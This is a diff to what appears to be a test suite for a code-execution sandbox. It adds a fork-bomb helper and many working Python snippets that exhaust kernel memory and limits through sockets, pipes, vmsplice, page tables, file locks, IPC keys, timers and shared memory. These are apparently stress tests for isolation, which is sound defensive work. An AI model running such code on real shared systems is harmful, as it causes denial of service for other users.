@@ -54,6 +54,17 @@ def show(id, raw, points=99.0):
     display({{"text/plain": repr(points), "text/markdown": "**Right.**", {MIME!r}: {{"id": id, "raw": raw, "variant": "book"}}}}, raw=True)
 """
 
+FORKS = """
+import os, time
+def spread(attack):  # in as many processes as there may be
+    try:
+        while os.fork(): pass
+    except OSError: pass
+    while True:
+        try: attack()
+        except (OSError, MemoryError): time.sleep(0.05)
+"""
+
 # Code that goes into a cell behind the import. {course}, {pid}, {port} are filled in.
 CODE = {
     # ------------------------------------------------ points without answers
@@ -254,6 +265,170 @@ while True:
     "many-files": "import os\nfor i in range(10**7): os.close(os.open(f'/tmp/{i}', os.O_CREAT))",
     "many-open-files": "x = [open('/dev/null') for _ in range(10**6)]",
     "pipes-full": "import os\nx = []\nwhile True: x.append(os.pipe()); os.set_blocking(x[-1][1], False); os.write(x[-1][1], bytes(65536))",
+    # ------------------------------------------------ memory that the kernel keeps
+    "sockets-full": FORKS + """
+import socket
+def fill(s):
+    s.setblocking(False)
+    try:
+        while True: s.send(bytes(60_000))
+    except OSError: pass
+def attack():
+    x = []
+    while True:
+        a, b = socket.socketpair(); x += [a, b]
+        for s in (a, b):
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4_000_000); fill(s)
+spread(attack)""",
+    "sockets-waiting": FORKS + """
+import socket
+def attack():  # each connection waits at the listener with its data, and its sender is gone
+    n = os.getpid()
+    s = socket.socket(socket.AF_UNIX); s.bind(f"/tmp/s{n}"); s.listen(4096)
+    while True:
+        c = socket.socket(socket.AF_UNIX); c.setblocking(False); c.connect(f"/tmp/s{n}")
+        try:
+            while True: c.send(bytes(60_000))
+        except OSError: pass
+        c.close()
+spread(attack)""",
+    "sockets-in-flight": FORKS + """
+import socket, array
+def attack():
+    x = []
+    while True:
+        a, b = socket.socketpair(); c, d = socket.socketpair(); c.setblocking(False)
+        try:
+            while True: c.send(bytes(60_000))
+        except OSError: pass
+        a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [c.fileno(), d.fileno()]))])
+        x += [a, b]; c.close(); d.close()
+spread(attack)""",
+    "datagrams": FORKS + """
+import socket
+def attack():
+    x = []
+    while True:
+        for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
+            a, b = socket.socketpair(socket.AF_UNIX, kind); a.setblocking(False); x += [a, b]
+            try:
+                while True: a.send(bytes(60_000))
+            except OSError: pass
+spread(attack)""",
+    "tcp": FORKS + """
+import socket
+def attack():
+    s = socket.create_server(("127.0.0.1", 0)); x = []
+    while True:
+        c = socket.create_connection(s.getsockname()); c.setblocking(False); x.append(c)
+        try:
+            while True: c.send(bytes(60_000))
+        except OSError: pass
+spread(attack)""",
+    "pipes-wide": FORKS + """
+import fcntl
+def attack():
+    x = []
+    while True:
+        r, w = os.pipe(); x += [r, w]; os.set_blocking(w, False)
+        try: fcntl.fcntl(w, 1031, 2**20)
+        except OSError: pass
+        try:
+            while True: os.write(w, bytes(4096))
+        except OSError: pass
+spread(attack)""",
+    "pipes-of-huge-pages": FORKS + """
+import ctypes, mmap
+libc = ctypes.CDLL(None)
+class Part(ctypes.Structure): _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))
+def attack():
+    x = []
+    while True:
+        r, w = os.pipe(); x += [r, w]
+        for _ in range(16):
+            m = mmap.mmap(-1, 2**22, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
+            try: m.madvise(14)
+            except OSError: pass
+            m.write(bytes(2**22)); at = (ctypes.c_char * 1).from_buffer(m)
+            libc.vmsplice(w, ctypes.byref(Part((ctypes.addressof(at) + 2**21) & ~(2**21 - 1), 1)), 1, 2)
+            del at; m.close()
+spread(attack)""",
+    "file-locks": FORKS + """
+import fcntl, struct
+def attack():
+    files = [open(f"/tmp/lock{os.getpid()}-{i}", "w") for i in range(60)]
+    for at in range(0, 10**9, 2):
+        for file in files: fcntl.fcntl(file, 37 if at % 4 else 6, struct.pack("hhqqi4x", 1, 0, at, 1, 0))
+spread(attack)""",
+    "empty-files": FORKS + """
+def attack():
+    for i in range(10**9): os.close(os.open(f"/tmp/{os.getpid()}-{i}-" + "x" * 200, os.O_CREAT))
+spread(attack)""",
+    "symbolic-links": FORKS + """
+def attack():
+    for i in range(10**9): os.symlink("x" * 120, f"/tmp/l{os.getpid()}-{i}")
+spread(attack)""",
+    "page-tables": FORKS + """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+libc.mmap.restype = ctypes.c_void_p
+libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
+def attack():  # one page in each gigabyte wants two pages of tables, and reading it none of its own
+    for i in range(1, 65_000):
+        at = libc.mmap(i << 30, 4096, 1, 0x100022, -1, 0)
+        if at and at < 2**63: ctypes.string_at(at, 1)
+    time.sleep(1000)
+spread(attack)""",
+    "mappings": FORKS + """
+import ctypes
+libc = ctypes.CDLL(None)
+libc.mmap.restype = ctypes.c_void_p
+libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
+def attack():
+    for i in range(65_000): libc.mmap(None, 4096, 1 + i % 2, 0x22, -1, 0)
+    time.sleep(1000)
+spread(attack)""",
+    "timers": FORKS + """
+import ctypes
+libc = ctypes.CDLL(None)
+def attack():
+    t = ctypes.c_void_p()
+    while True:
+        if libc.timer_create(1, None, ctypes.byref(t)): time.sleep(0.1)
+spread(attack)""",
+    "queues-and-keys": FORKS + """
+import ctypes
+libc = ctypes.CDLL(None)
+def attack():
+    for i in range(10**6):
+        libc.msgget(0, 0o1600); libc.semget(0, 32000, 0o1600); libc.mq_open(f"/{os.getpid()}-{i}".encode(), 66, 0o600, None)
+        libc.syscall(248, b"user", f"k{os.getpid()}-{i}".encode(), bytes(20_000), 20_000, -4)
+        libc.inotify_init(); libc.syscall(425, 4096, bytes(120)); libc.syscall(444, bytes(8), 8, 0)
+spread(attack)""",
+    "watches": FORKS + """
+import select
+def attack():
+    polls = [select.epoll() for _ in range(60)]; files = [os.eventfd(0) for _ in range(60)]
+    for p in polls:
+        for f in files: p.register(f)
+    time.sleep(1000)
+spread(attack)""",
+    "shared-memory": FORKS + """
+from multiprocessing import shared_memory
+def attack():
+    x = []
+    while True: x.append(shared_memory.SharedMemory(create=True, size=2_000_000)); x[-1].buf[:] = bytes(2_000_000)
+spread(attack)""",
+    "memory-and-sockets": FORKS + """
+import socket
+def attack():
+    x = [bytearray(14_000_000)]
+    while True:
+        a, b = socket.socketpair(); x += [a, b]; a.setblocking(False)
+        try:
+            while True: a.send(bytes(60_000))
+        except OSError: pass
+spread(attack)""",
     "deep-recursion": "import sys; sys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1) + 1\nf(0)",
     "crash": "import ctypes; ctypes.string_at(0)",
     "exits": "import os; os._exit(0)",
